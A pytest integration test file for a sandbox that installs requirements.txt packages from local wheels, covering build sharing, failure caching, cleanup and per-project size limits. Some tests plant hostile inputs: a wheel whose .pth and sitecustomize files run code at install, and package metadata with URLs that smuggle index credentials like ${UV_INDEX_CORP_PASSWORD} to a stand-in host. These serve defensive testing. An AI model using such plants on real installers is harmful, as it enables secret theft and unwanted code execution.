"""Packages of a requirements.txt: installed once, from the wheels in a folder that the test fills."""

from __future__ import annotations

import asyncio
import fcntl
import os
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from tests.integration.sandbox.conftest import open_runner, until
from tests.integration.sandbox.packages import requirements_file, wheel
from workers.runners.deterministic import DeterministicRunner
from workers.sandbox.host.assets import AssetLimits
from workers.sandbox.packages.installer import InstallLimits
from workers.sandbox.packages.verification import EnvironmentBounds
from workers.types import Assignment, Failure, Success

Skill = Callable[..., Assignment]


async def test_job_has_its_packages_and_their_programs(
    runner: DeterministicRunner, skill: Skill, recorder: Any, index: Path, tmp_path: Path
) -> None:
    assignment = skill(
        """
        import subprocess, sys, tinywheel, puras
        def run(inputs):
            said = subprocess.run(["tinywheel"], capture_output=True, text=True)
            again = subprocess.run([sys.executable, "-c", "import tinywheel; print(tinywheel.ANSWER)"],
                                   capture_output=True, text=True)
            return [tinywheel.ANSWER, said.stdout + said.stderr, again.stdout, sys.prefix, puras.__file__]
        """,
        requirements=requirements_file(tmp_path, "# ours\nTiny_Wheel >= 1.0  # the newest\n"),
    )
    outcome = await runner.run(assignment, recorder)
    assert isinstance(outcome, Success), outcome
    assert outcome.value[:3] == [42, "42\n", "42\n"]
    assert outcome.value[4].endswith("/puras/__init__.py")
    log = "".join(event["log"] for event in recorder.of("environment"))
    assert "tiny-wheel" in log
    assert "ready after" in log
    quiet = type(recorder)()
    assert isinstance(await runner.run(assignment, quiet), Success)
    assert quiet.of("environment") == []


@pytest.mark.parametrize("lines", [None, "tiny-wheel", "puras[local] >= 0.20  # the client\n"])
async def test_every_job_has_the_same_python_and_kit(
    runner: DeterministicRunner,
    skill: Skill,
    recorder: Any,
    index: Path,
    tmp_path: Path,
    lines: str | None,
) -> None:
    for name in ("httpx", "pyyaml", "puras"):
        wheel(index, name=name, extra={f"{name}.py": "FROM = 'index'\n"})
    code = """
        import puras, subprocess, sys
        def run(inputs):
            version = "import sys; print(sys.version)"
            asked = [["python3", "-c", version], ["python", "-c", version], ["puras", "--version"],
                     ["python3", "-m", "puras", "--version"]]
            said = [subprocess.run(one, capture_output=True, text=True) for one in asked]
            try:
                import httpx
                found = httpx.FROM
            except ImportError:
                found = None
            return [sys.version, puras.__version__, [one.stdout.strip() + one.stderr for one in said], found]
        """
    given = {} if lines is None else {"requirements": requirements_file(tmp_path, lines)}
    outcome = await runner.run(skill(code, **given), recorder)
    assert isinstance(outcome, Success), outcome
    version, kit, versions, found = outcome.value
    assert version == sys.version
    assert versions == [version, version, f"puras {kit}", f"puras {kit}"]
    assert found == ("index" if lines and "puras" in lines else None)


async def test_jobs_that_wait_for_the_same_packages_share_one_build(
    runner: DeterministicRunner, skill: Skill, recorder: Any, index: Path, tmp_path: Path
) -> None:
    code = "import tinywheel\ndef run(inputs): return tinywheel.ANSWER"
    jobs = [
        skill(code, requirements=requirements_file(tmp_path, f"tiny-wheel\n# {number}\n", f"r{number}"))
        for number in range(4)
    ]
    recorders = [type(recorder)() for _ in jobs]
    outcomes = await asyncio.gather(
        *(runner.run(job, each) for job, each in zip(jobs, recorders, strict=True))
    )
    assert all(isinstance(outcome, Success) for outcome in outcomes), outcomes
    logs = {"".join(event["log"] for event in each.of("environment")) for each in recorders}
    assert len(logs) == 1
    built = [
        folder for folder in (tmp_path / "home/environments").iterdir() if not folder.name.startswith(".")
    ]
    assert len(built) == 1


async def test_failed_build_fails_its_jobs_and_is_not_repeated_immediately(
    runner: DeterministicRunner, skill: Skill, recorder: Any, index: Path, tmp_path: Path
) -> None:
    assignment = skill(
        "def run(inputs): return 1", requirements=requirements_file(tmp_path, "no-such-package-here==1")
    )
    outcome = await runner.run(assignment, recorder)
    assert isinstance(outcome, Failure)
    assert outcome.code == "environment_failed"
    assert "no-such-package-here" in outcome.message
    assert "no-such-package-here" in "".join(event["log"] for event in recorder.of("environment"))
    built = files_of(tmp_path / "home/environments")
    again = await runner.run(assignment, recorder)
    assert isinstance(again, Failure)
    assert again.message == outcome.message
    assert files_of(tmp_path / "home/environments") == built, "nothing was built again"


def files_of(folder: Path) -> dict[Path, int]:
    """Return when each file under a folder was written, in nanoseconds."""
    return {path: path.stat().st_mtime_ns for path in folder.rglob("*")}


async def test_startup_code_of_a_package_runs_as_the_user_of_the_job(
    runner: DeterministicRunner, skill: Skill, recorder: Any, index: Path, tmp_path: Path
) -> None:
    wheel(
        index,
        name="at_start",
        extra={"at_start.pth": "import os; os.environ['AT_START'] = str(os.getresuid())\n"},
    )
    outcome = await runner.run(
        skill(
            "import os\ndef run(inputs): return [os.environ['AT_START'], str(os.getresuid())]",
            requirements=requirements_file(tmp_path, "at-start"),
        ),
        recorder,
    )
    assert isinstance(outcome, Success), outcome
    assert outcome.value[0] == outcome.value[1]
    assert "(0," not in outcome.value[0]


async def test_package_code_does_not_run_during_installation(
    runner: DeterministicRunner, skill: Skill, recorder: Any, index: Path, tmp_path: Path
) -> None:
    planted = tmp_path / "ran-outside"
    code = f"import os\ntry: open({str(planted)!r}, 'a')\nexcept OSError: pass\n"
    wheel(
        index,
        name="sly",
        extra={
            "sly.pth": f"import os; exec({code!r})\n",
            "sitecustomize.py": code,
            "usercustomize.py": code,
            "compileall.py": code,
            "broken.py": "def (:\n",
        },
    )
    outcome = await runner.run(
        skill("import tinywheel\ndef run(inputs): return 1", requirements=requirements_file(tmp_path, "sly")),
        recorder,
    )
    assert isinstance(outcome, Success), outcome
    assert not planted.exists()
    (environment,) = (tmp_path / "home/environments").glob("[!.]*")
    assert list(environment.glob("lib/python3*/site-packages/__pycache__/tinywheel.*.pyc"))


async def test_wheel_with_very_deep_folders_fails_its_job_and_is_removed(
    runner: DeterministicRunner, skill: Skill, recorder: Any, index: Path, tmp_path: Path
) -> None:
    wheel(index, name="deep_wheel", extra={"a/" * 1_100 + "x.txt": "1", "data.bin": "x" * (1 << 20)})
    outcome = await runner.run(
        skill("def run(inputs): return 1", requirements=requirements_file(tmp_path, "deep-wheel")), recorder
    )
    assert isinstance(outcome, Failure), outcome
    assert outcome.code == "environment_failed"
    assert "deeper than 64" in outcome.message
    assert [path.suffix for path in (tmp_path / "home/environments").iterdir()] == [".failed"]


@pytest.mark.parametrize(
    "url",
    [
        "http://x.invalid/${UV_INDEX_CORP_PASSWORD}/e.whl",
        "http://${UV_INDEX_CORP_PASSWORD}/e.whl",
        "http://x.invalid/${UV_INDEX_CORP_PASSWORD}/../e.whl",
        "http://x.invalid/${UV_EXTRA_INDEX_URL}/e.whl",
        "http://x.invalid/e.whl?q=${HTTPS_PROXY}",
        "http://x.invalid/e.whl#${PIP_INDEX_URL}",
    ],
)
async def test_package_metadata_cannot_reveal_index_credentials(
    runner: DeterministicRunner,
    skill: Skill,
    recorder: Any,
    index: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    url: str,
) -> None:
    secrets = ["Hunter2-of-the", "+Operator", "IndexSecret", "ProxySecret"]
    monkeypatch.setenv("UV_INDEX_CORP_PASSWORD", "/".join(secrets[:2]))
    monkeypatch.setenv("UV_EXTRA_INDEX_URL", f"https://user:{secrets[2]}@pypi.corp.invalid/simple")
    monkeypatch.setenv("PIP_INDEX_URL", f"https://user:{secrets[2]}@pypi.corp.invalid/simple")
    monkeypatch.setenv("HTTPS_PROXY", f"http://user:{secrets[3]}@127.0.0.1:9")
    metadata = f"Metadata-Version: 2.1\nName: leak\nVersion: 1.0\nRequires-Dist: evil @ {url}\n"
    wheel(index, name="leak", extra={"leak-1.0.dist-info/METADATA": metadata})
    outcome = await runner.run(
        skill("def run(inputs): return 1", requirements=requirements_file(tmp_path, "leak")), recorder
    )
    assert isinstance(outcome, Failure), outcome
    kept = next((tmp_path / "home/environments").glob(".*.failed")).read_text(encoding="utf-8")
    shown = "".join([outcome.message, str(recorder.events), kept]).lower()
    assert "leak" in shown
    assert [secret for secret in secrets if secret.lower() in shown] == []


async def test_rejected_lines_fail_the_job_before_the_installation(
    runner: DeterministicRunner, skill: Skill, recorder: Any, tmp_path: Path
) -> None:
    assignment = skill("def run(inputs): return 1")
    for line in ("-e .", "--index-url https://example.org", "x @ https://example.org/x.whl", "./local"):
        outcome = await runner.run(
            replace(assignment, requirements=requirements_file(tmp_path, f"six\n{line}\n")), recorder
        )
        assert isinstance(outcome, Failure)
        assert outcome.code == "environment_failed"
        assert "line 2" in outcome.message
    assert recorder.events == []


async def test_unused_environments_are_removed_and_recreated_on_demand(
    tmp_path: Path, skill: Skill, recorder: Any, index: Path
) -> None:
    runner = open_runner(tmp_path, asset_limits=AssetLimits(environments_mb=0, bundles_mb=0))
    waiting = """
        import os, time, tinywheel
        def run(inputs):
            open("drive/started", "w").close()
            while inputs.get("wait") and not os.path.exists("drive/stop"):
                time.sleep(0.01)
            return tinywheel.ANSWER
        """
    assignment = skill(waiting, requirements=requirements_file(tmp_path, "tiny-wheel"), inputs={"wait": True})
    environments = tmp_path / "home/environments"
    try:
        job = asyncio.create_task(runner.run(assignment, recorder))
        await until((assignment.drive_dir / "started").exists)
        _age(environments)
        await runner.assets.tidy()
        assert len(list(environments.glob("[!.]*"))) == 1
        (assignment.drive_dir / "stop").touch()
        assert isinstance(await job, Success)
        _age(environments)
        await runner.assets.tidy()
        assert list(environments.glob("[!.]*")) == []
        again = replace(assignment, project_id=uuid4())
        assert isinstance(await runner.run(again, recorder), Success)
    finally:
        await runner.close()


async def test_files_of_a_killed_worker_are_removed_at_start_and_later(
    tmp_path: Path, skill: Skill, recorder: Any, index: Path
) -> None:
    key, held_key = "a" * 64, "b" * 64
    environments, wheels = tmp_path / "home/environments", tmp_path / "home/wheels"

    def create_files(key: str) -> list[Path]:
        """Create the locks and folders of a worker that installs and builds packages."""
        folders = [environments / f".{key}.building", wheels / f".{key}.0f", wheels / f".{key}.0f.wheel"]
        for folder in folders:
            (folder / "inner").mkdir(parents=True)
        files = [environments / f".{key}.lock", wheels / f".{key}.lock"]
        for file in files:
            file.touch()
        return [*folders, *files]

    abandoned, kept = create_files(key), create_files(held_key)
    (environments / key).mkdir()
    (environments / f".{key}.used").touch()
    with (environments / f".{held_key}.lock").open() as one, kept[-1].open() as two:
        for lock in (one, two):
            fcntl.flock(lock, fcntl.LOCK_EX)
        runner = open_runner(tmp_path)
        try:
            await until(lambda: not any(path.exists() for path in abandoned))
            abandoned = create_files(key)
            await runner.assets.tidy()
        finally:
            await runner.close()
        assert [path for path in abandoned if path.exists()] == []
        assert [path for path in kept if not path.exists()] == []
        assert (environments / key).is_dir()
        assert (environments / f".{key}.used").exists()


def _age(environments: Path) -> None:
    for path in environments.iterdir():
        os.utime(path, (0, 0))


async def test_size_of_builds_of_a_project_per_hour_is_limited(
    skill: Skill, recorder: Any, index: Path, tmp_path: Path
) -> None:
    """With its share used up, the next build is rejected; what is built runs, and another project builds."""
    code = "import tinywheel\ndef run(inputs): return tinywheel.ANSWER"
    first = skill(code, requirements=requirements_file(tmp_path, "tiny-wheel", "first"))
    other = skill(code, requirements=requirements_file(tmp_path, "tiny-wheel>=0.1", "second"))
    second = replace(other, project_id=first.project_id)
    runner = open_runner(tmp_path, install_limits=InstallLimits(EnvironmentBounds(project_mb=1)))
    try:
        assert isinstance(await runner.run(first, recorder), Success)
        (size_file,) = (tmp_path / "home/environments").glob(".*.size")
        size_file.write_text(size_file.read_text().replace('"size_bytes": ', '"size_bytes": 9999'))
        rejected = await runner.run(second, recorder)
        assert isinstance(rejected, Failure)
        assert "1 MiB are allowed" in rejected.message
        assert isinstance(await runner.run(first, recorder), Success)
        assert isinstance(await runner.run(other, recorder), Success)
    finally:
        await runner.close()
